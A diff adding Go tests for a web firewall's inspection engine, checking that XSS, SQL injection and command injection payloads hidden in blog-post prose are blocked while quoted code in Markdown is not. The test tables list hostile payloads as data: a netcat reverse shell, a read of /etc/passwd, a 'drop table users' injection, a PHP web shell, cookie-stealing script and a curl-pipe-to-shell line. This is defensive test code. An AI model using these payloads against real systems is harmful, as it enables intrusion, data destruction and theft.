@@ -1,0 +1,148 @@
+package inspect
+
+import (
+	"net/http"
+	"net/url"
+	"strings"
+	"testing"
+)
+
+// prose is a paragraph of an ordinary post, around what the tests put in
+// free text.
+const prose = "Some notes I took while reading the docs this week, for the team to read later on."
+
+// textRequests returns a post carrying body in a JSON article and in a
+// form, the shapes a blog receives.
+func textRequests(body string) map[string]*Request {
+	j := `{"article":{"title":"Notes","body":"` + jsonEscape(body) + `"}}`
+	return map[string]*Request{
+		"json": {Method: "POST", URI: "/api/articles", Header: http.Header{"Content-Type": {"application/json"}}, Body: []byte(j)},
+		"form": {Method: "POST", URI: "/posts", Header: http.Header{"Content-Type": {"application/x-www-form-urlencoded"}},
+			Body: []byte("title=Notes&body=" + url.QueryEscape(body))},
+	}
+}
+
+// TestFreeTextAttacks checks that each rule free text relaxes still blocks
+// its attacks in the prose of a post: stored XSS, a quote closed then SQL,
+// a separator then a command. A rule turned off fails its case.
+func TestFreeTextAttacks(t *testing.T) {
+	e, err := New(Config{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, c := range []struct{ rule, payload string }{
+		{"bw-xss-002", "<script>alert(document.domain)</script>"},
+		{"bw-xss-002", `<iframe srcdoc="<script>alert(1)</script>"></iframe>`},
+		{"bw-xss-002", `<base href="https://evil.example/">`},
+		{"bw-xss-002", `<object data="javascript:alert(1)"></object>`},
+		{"bw-xss-003", `<img src=x onerror=alert(1)>`},
+		{"bw-xss-003", `<svg/onload=alert(1)>`},
+		{"bw-xss-004", `<a href="javascript:alert(1)">click</a>`},
+		{"bw-xss-004", `[click me](javascript:alert(1))`},
+		{"bw-xss-004", `<div style="width: expression(alert(1))">x</div>`},
+		{"bw-xss-006", `"; alert(document.cookie)//`},
+		{"bw-sqli-002", `x' union select password from users where 'a'='a`},
+		{"bw-sqli-003", `x' and sleep(5) and 'a'='a`},
+		{"bw-sqli-004", `x' or '1'='1`},
+		{"bw-sqli-005", `x'; drop table users; select '1`},
+		{"bw-sqli-007", `admin'--`},
+		{"bw-cmdi-001", `hello; whoami`},
+		{"bw-cmdi-002", `a;cat${IFS}/etc/passwd`},
+		{"bw-cmdi-003", `x | nc -e /bin/sh 10.0.0.1 4444`},
+		{"bw-cmdi-004", `x & cmd /c dir c:\`},
+		{"bw-cmdi-006", "x\r\nA282 SEARCH FLAGGED\r\n"},
+		{"bw-code-001", `require('child_process').exec('id')`},
+		{"bw-php-001", `<?php system($_GET['c']); ?>`},
+		{"bw-php-002", `base64_decode('aWQ=')`},
+	} {
+		for _, body := range []string{prose + " " + c.payload + " " + prose, prose + "\n\n" + c.payload + "\n\n" + prose} {
+			for shape, r := range textRequests(body) {
+				v := e.Inspect(r)
+				if v.Action != Block || !hasRule(v, c.rule) {
+					t.Errorf("%s in a %s post: %v %v, want blocked by %s", c.payload, shape, v.Action, v.Findings, c.rule)
+				}
+			}
+		}
+	}
+}
+
+// TestFreeTextCode checks that code quoted in a post — a Markdown fence, an
+// indented block, a code span — is content, and what documentation writes
+// in its prose is no attack; and that markup in an HTML <code> element,
+// which browsers run, still is.
+func TestFreeTextCode(t *testing.T) {
+	e, err := New(Config{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, c := range []struct {
+		body  string
+		block bool
+	}{
+		{prose + "\n\n```html\n<script>\n  alert(document.cookie);\n</script>\n```\n\n" + prose, false},
+		{prose + "\n\n```sql\nSELECT * FROM users WHERE name = '' OR '1'='1';\nDROP TABLE users; --\n```\n\n" + prose, false},
+		{prose + "\n\n~~~sh\ncurl https://example.com/x.sh | sh\nwhoami; cat /etc/passwd\n~~~\n\n" + prose, false},
+		{prose + "\n\n    const cp = require('child_process');\n    cp.exec('ls -l /tmp');\n\n" + prose, false},
+		{prose + " Use `<img src=x onerror=alert(1)>` to test it, or `x' or 1=1--` in the form. " + prose, false},
+		{prose + "\n\nRequest:\nContent-Type: text/html\nLocation: /login\n\n" + prose, false},
+		{prose + "\nList supported time zones for a given `Locale`.\n" + prose, false},
+		{prose + "\n\n| Type | Value Range | Size in bytes |\n| --- | --- | --- |\n| node | 1 | 2 |\n\n" + prose, false},
+		{prose + " The child_process module and fs.readFile() are documented, as is Reflect.get and the <iframe> element. " + prose, false},
+		{prose + " Escaped in Markdown, \\<script> is text. " + prose, false},
+		{prose + " <code><script>alert(1)</script></code> " + prose, true},
+		{prose + " <pre>x' or '1'='1</pre> " + prose, false},
+		{prose + "\n\n```\n" + prose + "\n```\n\n<script>alert(1)</script>\n", true},
+	} {
+		for shape, r := range textRequests(c.body) {
+			v := e.Inspect(r)
+			if (v.Action == Block) != c.block {
+				t.Errorf("%q as a %s post: %v %v, want blocked %v", c.body, shape, v.Action, v.Findings, c.block)
+			}
+		}
+	}
+}
+
+// TestFreeTextNotValues checks that what is not free text is judged as a
+// value: a payload with few words, a query parameter, a line break in a
+// header-like place.
+func TestFreeTextNotValues(t *testing.T) {
+	e, err := New(Config{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, c := range []struct {
+		name string
+		r    *Request
+		rule string
+	}{
+		{"numeric json", textRequests("1 union select null, password from users")["json"], "bw-sqli-002"},
+		{"keywords json", textRequests("AND (SELECT * FROM (SELECT(SLEEP(5)))nQIP)#")["json"], "bw-sqli-003"},
+		{"query", &Request{Method: "GET", URI: "/search?q=" + url.QueryEscape(prose+"\r\nSet-Cookie: a=1"), Header: http.Header{}}, "bw-crlf-001"},
+	} {
+		v := e.Inspect(c.r)
+		if v.Action != Block || !hasRule(v, c.rule) {
+			t.Errorf("%s: %v %v, want blocked by %s", c.name, v.Action, v.Findings, c.rule)
+		}
+	}
+}
+
+// FuzzProseView checks that the free-text parse never panics, keeps every
+// line and never grows a value.
+func FuzzProseView(f *testing.F) {
+	for _, s := range []string{"a `b` c", "```\nx\n```", "    code\n\ntext", "<code>x</code>", "`` ` ``", "\\<script>", "~~~\n", "<pre>"} {
+		f.Add(s)
+	}
+	e, err := New(Config{})
+	if err != nil {
+		f.Fatal(err)
+	}
+	f.Fuzz(func(t *testing.T, v string) {
+		s := e.scans.Get().(*scan)
+		defer s.release()
+		m := s.proseView(v, false)
+		p := s.proseView(m, true)
+		if strings.Count(m, "\n") != strings.Count(v, "\n") || len(p) > len(m) {
+			t.Errorf("proseView(%q) = %q, %q", v, m, p)
+		}
+	})
+}
